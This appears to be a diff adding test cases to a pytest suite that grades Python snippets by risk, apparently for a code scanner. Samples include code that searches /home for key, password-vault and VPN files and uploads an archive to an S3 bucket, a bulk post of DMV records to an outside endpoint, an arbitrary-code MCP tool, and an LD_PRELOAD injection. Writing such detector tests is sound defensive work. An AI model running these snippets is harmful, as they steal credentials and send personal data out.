@@ -10893,6 +10893,53 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'os.environ.update({"LD_PRELOAD": "/dev/shm/l.so"})\n',
             H,
         ),
+        # holdout324-327: AI agent tooling, tattoo studios, native builds, private investigators
+        (
+            'import os, tarfile, boto3\n'
+            'hits = []\n'
+            'for root, _, files in os.walk("/home"):\n'
+            '    for fn in files:\n'
+            '        if fn.endswith((".pem", ".kdbx", ".ovpn")):\n'
+            '            hits.append(os.path.join(root, fn))\n'
+            's3 = boto3.client("s3")\n'
+            's3.upload_file("/tmp/k.tgz", "drop-bkt", "k.tgz")\n',
+            H,
+        ),
+        (
+            'import os\n'
+            'for root, _, files in os.walk("."):\n'
+            '    for fn in files:\n'
+            '        if fn.endswith((".pem", ".p12")):\n'
+            '            print(os.path.join(root, fn))\n',
+            S,
+        ),
+        (
+            'import csv, requests\n'
+            'with open("/srv/exports/dmv_matches_2024.csv") as f:\n'
+            '    rows = list(csv.DictReader(f))\n'
+            'requests.post("https://ingest.example.io/v1/bulk", json={"records": rows})\n',
+            C,
+        ),
+        (
+            'import subprocess\n'
+            'from mcp.server.fastmcp import FastMCP\n'
+            'mcp = FastMCP("t")\n'
+            '@mcp.tool()\n'
+            'def run_tests(path: str = "tests") -> str:\n'
+            '    return subprocess.run(["python", "-m", "pytest", "-q", path], capture_output'
+            '=True, text=True).stdout\n',
+            L,
+        ),
+        (
+            'import subprocess\n'
+            'from mcp.server.fastmcp import FastMCP\n'
+            'mcp = FastMCP("t")\n'
+            '@mcp.tool()\n'
+            'def run(code: str) -> str:\n'
+            '    return subprocess.run(["python", "-c", code], capture_output=True, text=True'
+            ').stdout\n',
+            C,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
